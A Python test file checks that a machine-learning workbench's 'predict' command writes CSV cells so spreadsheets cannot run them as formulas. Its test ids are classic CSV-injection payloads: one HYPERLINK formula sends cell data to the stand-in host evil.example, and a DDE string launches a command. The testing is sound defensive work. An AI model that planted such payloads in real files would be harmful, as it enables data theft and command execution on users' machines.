"""`workbench predict --out FILE.csv` is opened in spreadsheets: a text cell (id, class
name, label) that a spreadsheet would run as a formula is written with a leading ``'``
(OWASP's CSV-injection rule); numbers stay numbers, negative ones included, and JSONL
keeps every value exact. Text cells are quoted, so a carriage return inside an id cannot
split its row in two (it did: the writer quoted only cells holding its line end, ``\n``).

Real students (MiniLM + LoRA, built in code and exported) predict a manifest whose ids are
the classic payloads, through the real ``workbench predict`` command.
"""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path

import pytest
import torch
import yaml
from typer.testing import CliRunner

from students.export import export_model
from students.model import build_student
from workbench.cli import app
from workbench.config import LoraConfig, StudentConfig
from workbench.data.store import DataInfo

pytestmark = pytest.mark.usefixtures("one_thread")
runner = CliRunner()

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
SAFE_IDS = ["u1", "-7", "0.5"]  # "-7": a number, not a formula; left as it is
NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]*)?([eE][+-]?[0-9]+)?")
CLASSES = ["=1+1", "neutral", "-1"]  # class names are text too: "=1+1" would run


def _export(root: Path, task: str) -> Path:
    if task == "classification":
        info = DataInfo(name="lines", task=task, metric_set="classification",
                        label_range=(-3.0, 3.0), class_names=CLASSES, modalities=["text"])
    else:
        info = DataInfo(name="lines", task=task, metric_set="mosi", label_range=(-3.0, 3.0),
                        class_names=[], modalities=["text"])
    cfg = StudentConfig(hidden=16, heads=2, bottleneck_tokens=2, max_text_len=16, dropout=0.0,
                        lora=LoraConfig(r=2, alpha=4, dropout=0.0))
    torch.manual_seed(0)
    return export_model(build_student(cfg, info).eval(), root / f"exported-{task}")


def _data(root: Path, task: str) -> Path:
    ids = PAYLOADS + SAFE_IDS
    labels = ({"classification": CLASSES, "regression": ["-1.4", "2.2", "-0.5"]}[task] * 4)
    root.mkdir(parents=True, exist_ok=True)
    with (root / "lines.csv").open("w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["id", "text", "label"])
        for i, sid in enumerate(ids):
            w.writerow([sid, f"line {i}: this is {'great' if i % 2 else 'awful'}", labels[i]])
    cfg = {"name": "new_lines", "path": "lines.csv", "task": task, "modalities": ["text"]}
    if task == "classification":
        cfg.update(class_names=CLASSES, class_column="label")
    (root / "new.yaml").write_text(yaml.safe_dump(cfg))
    return root / "new.yaml"


@pytest.fixture(scope="module", params=["classification", "regression"])
def predicted(request, tmp_path_factory):
    """(task, CSV rows, JSONL rows) of one export predicting the payload ids."""
    task = request.param
    root = tmp_path_factory.mktemp(task)
    export, data = _export(root, task), _data(root / "new", task)
    out = {}
    for suffix in ("csv", "jsonl"):
        r = runner.invoke(app, ["predict", str(export), "--data", str(data), "--new-data",
                                "--out", str(root / f"p.{suffix}"), "--device", "cpu"])
        assert r.exit_code == 0, r.output
        out[suffix] = root / f"p.{suffix}"
    with out["csv"].open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    lines = [json.loads(x) for x in out["jsonl"].read_text(encoding="utf-8").splitlines()]
    return task, rows, lines


def _would_run(cell: str) -> bool:
    """Starts like a formula and is not a plain number (``-1`` is a number to a spreadsheet)."""
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not NUMBER.fullmatch(cell)


def test_csv_text_cells_a_spreadsheet_would_run_are_quoted(predicted):
    task, rows, lines = predicted
    assert [r["id"] for r in rows] == ["'" + p for p in PAYLOADS] + SAFE_IDS
    text_cols = ["id", "split"] + (["class", "label"] if task == "classification"
                                   else ["polarity"])
    for r in rows:
        for c in text_cols:
            assert not _would_run(r[c]), (c, r[c])
    if task == "classification":
        assert {r["label"] for r in rows} == {"'=1+1", "neutral", "-1"}
        assert {r["class"] for r in rows} <= {"'=1+1", "neutral", "-1"}


def test_csv_numbers_stay_numbers_negative_ones_included(predicted):
    task, rows, lines = predicted
    by_id = {ln["id"]: ln for ln in lines}
    for r in rows:
        exact = by_id[r["id"][1:] if r["id"].startswith("'") else r["id"]]
        if task == "regression":
            assert float(r["score"]) == exact["score"]  # e.g. -0.0123: no quote
            assert int(r["class7"]) == exact["class7"] and float(r["label"]) == exact["label"]
        else:
            assert int(r["class_id"]) == exact["class_id"]
            assert [float(r[f"prob_{c}"]) for c in CLASSES] == [exact[f"prob_{c}"]
                                                               for c in CLASSES]
    if task == "regression":  # negative gold scores are written as numbers, unquoted
        assert {r["label"] for r in rows} == {"-1.4", "2.2", "-0.5"}


def test_jsonl_keeps_every_value_exact(predicted):
    task, _, lines = predicted
    assert [ln["id"] for ln in lines] == PAYLOADS + SAFE_IDS
    if task == "classification":
        assert [ln["label"] for ln in lines] == (CLASSES * 4)[: len(lines)]
        assert {ln["class"] for ln in lines} <= set(CLASSES)
